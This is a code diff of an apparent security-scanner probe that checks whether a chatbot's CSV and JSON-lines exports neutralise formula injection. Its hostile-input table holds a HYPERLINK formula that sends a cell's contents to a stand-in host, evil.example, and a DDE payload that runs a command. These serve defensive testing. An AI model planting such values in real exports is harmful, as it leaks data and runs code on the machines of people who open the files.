@@ -6,7 +6,8 @@ import type { StepResult } from './step-result.ts';
 /** Texts a visitor (or the chatbot) may send, each starting a formula at the start, after a line break or after a separator. */
 const HOSTILE = {
   lineBreak: 'Where is my order?\r\n=HYPERLINK("https://evil.example/?"&A1,"Click")',
-  unixLineBreak: 'Second line below\n+SUM(1,2)',
+  unixLineBreak: 'Second line below\n+SUM(1;2)',
+  carriageReturn: 'A lone carriage return\r@SUM(A1)',
   atSign: '@SUM(A1:A9)',
   minus: '-2+3+cmd|\' /C calc\'!A0',
   fullWidth: '\uFF1D1+2',
@@ -36,9 +37,10 @@ export async function probeCsvExports(target: ScanTarget): Promise<StepResult> {
   await call(target, 'POST', `/api/help-requests/${String(helpRequest.id)}/resolve`);
   tried.push(`sent ${texts.length} exchanges, ratings and a help request through the bot API holding ${Object.keys(HOSTILE).join(', ')}; resolved the help request (its audit entry quotes it)`);
 
-  for (const list of ['history', 'feedback', 'help-requests', 'audit-log'] as const) {
-    const csv = await call(target, 'GET', `/api/export/${list}?format=csv`, { headers: DASHBOARD_FETCH });
-    const jsonl = await call(target, 'GET', `/api/export/${list}?format=jsonl`, { headers: DASHBOARD_FETCH });
+  // The audit log under one action: each export adds an entry of its own, so the whole log grows between two exports.
+  for (const [list, filter] of [['history', ''], ['feedback', ''], ['help-requests', ''], ['audit-log', '&action=help_request_resolved']] as const) {
+    const csv = await call(target, 'GET', `/api/export/${list}?format=csv${filter}`, { headers: DASHBOARD_FETCH });
+    const jsonl = await call(target, 'GET', `/api/export/${list}?format=jsonl${filter}`, { headers: DASHBOARD_FETCH });
     if (csv.status !== 200 || jsonl.status !== 200) {
       findings.push(`GET /api/export/${list} answered ${csv.status} (CSV) and ${jsonl.status} (JSON lines): the probe could not read it`);
       continue;
